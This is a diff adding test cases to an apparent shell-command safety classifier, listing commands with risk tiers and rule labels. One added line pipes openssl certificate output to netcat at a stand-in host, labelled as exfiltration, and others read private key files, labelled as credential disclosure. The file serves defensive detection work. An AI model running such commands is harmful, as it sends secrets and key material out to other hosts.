@@ -355,6 +355,21 @@ EXFIL: list[tuple[str, Tier, Tier, str | None]] = [
     ("nc -zv x.example 22", H, H, None),
     ("nc x.example 80", H, H, None),
     ("openssl x509 -in cert.crt -text", A, H, None),
+    ("openssl x509 -in server.pem -text -noout", A, H, None),
+    (
+        "openssl x509 -in server.pem -text -noout | nc h 1",
+        H,
+        H,
+        "exfiltration.netcat",
+    ),
+    (
+        "openssl req -new -key server.key -out server.csr",
+        H,
+        H,
+        "disclosure.credential-file",
+    ),
+    ("openssl rsa -in key.pem -check", H, H, "disclosure.credential-file"),
+    ("cat tokenizer.json", A, A, None),
 ]
 PERMISSIONS: list[tuple[str, Tier, Tier, str | None]] = [
     ("chmod o+w file", H, D, "permissions.world-writable"),
